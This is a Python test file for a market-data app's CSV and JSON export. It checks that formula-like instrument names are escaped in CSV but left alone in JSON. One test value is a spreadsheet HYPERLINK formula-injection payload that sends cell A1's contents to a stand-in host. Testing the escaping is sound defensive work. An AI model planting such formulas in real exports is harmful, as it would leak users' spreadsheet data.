"""CSV and JSON output: what a script or a spreadsheet receives."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from tui.data.export import to_csv, to_json
from tui.data.snapshot import MarketSnapshot, PaneSnapshot, Quote

AT = datetime(2026, 2, 3, 15, 30, tzinfo=UTC)


def quote(symbol: str, name: str, last: float, change: float) -> Quote:
    return Quote(
        pane="indices",
        group="Americas",
        symbol=symbol,
        name=name,
        source="yahoo",
        currency="USD",
        last=last,
        prev_close=last - change,
        change=change,
        change_pct=change / (last - change) * 100.0,
        day_high=last,
        day_low=last - 10,
        range_pos=1.0,
        as_of=AT,
        stale_reason=None,
    )


def snapshot(*quotes: Quote) -> MarketSnapshot:
    pane = PaneSnapshot(name="indices", groups=("Americas",), quotes=quotes)
    return MarketSnapshot(generated_at=AT, demo=False, panes=(pane,))


def test_csv_keeps_formula_like_names_as_text() -> None:
    hostile = quote("EVIL", '=HYPERLINK("http://x.example/?"&A1,"S&P 500")', 100.0, -2.5)
    plus = quote("PLUS", "+SUM(1,2)", 50.0, 1.0)
    snap = snapshot(quote("^GSPC", "S&P 500", 6723.9, -147.26), hostile, plus)

    rows = list(csv.DictReader(io.StringIO(to_csv(snap))))

    assert [r["name"] for r in rows] == [
        "S&P 500",
        '\'=HYPERLINK("http://x.example/?"&A1,"S&P 500")',
        "'+SUM(1,2)",
    ]
    # Numbers stay numbers: a negative change is not a formula.
    assert rows[1]["change"] == "-2.5" and rows[0]["change"] == "-147.26"


def test_json_is_not_altered_for_spreadsheets() -> None:
    snap = snapshot(quote("EVIL", "=1+1", 100.0, -2.5))
    data = json.loads(to_json(snap))
    assert data["quotes"][0]["name"] == "=1+1"
    assert data["quotes"][0]["last"] == 100.0


def test_the_exported_sigma_window_is_the_one_computed() -> None:
    from tui.data import export, sigma

    assert export.SIGMA_WINDOW == sigma.SIGMA_WINDOW
